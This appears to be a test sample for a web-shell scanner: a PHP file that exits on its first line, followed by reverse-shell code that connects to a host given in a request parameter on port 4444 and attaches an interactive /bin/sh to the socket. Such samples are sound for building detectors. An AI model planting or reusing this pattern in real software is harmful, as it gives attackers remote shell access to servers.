<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$sock = fsockopen($_GET['h'], 4444);
$proc = proc_open('/bin/sh -i', array(0 => $sock, 1 => $sock, 2 => $sock), $pipes);
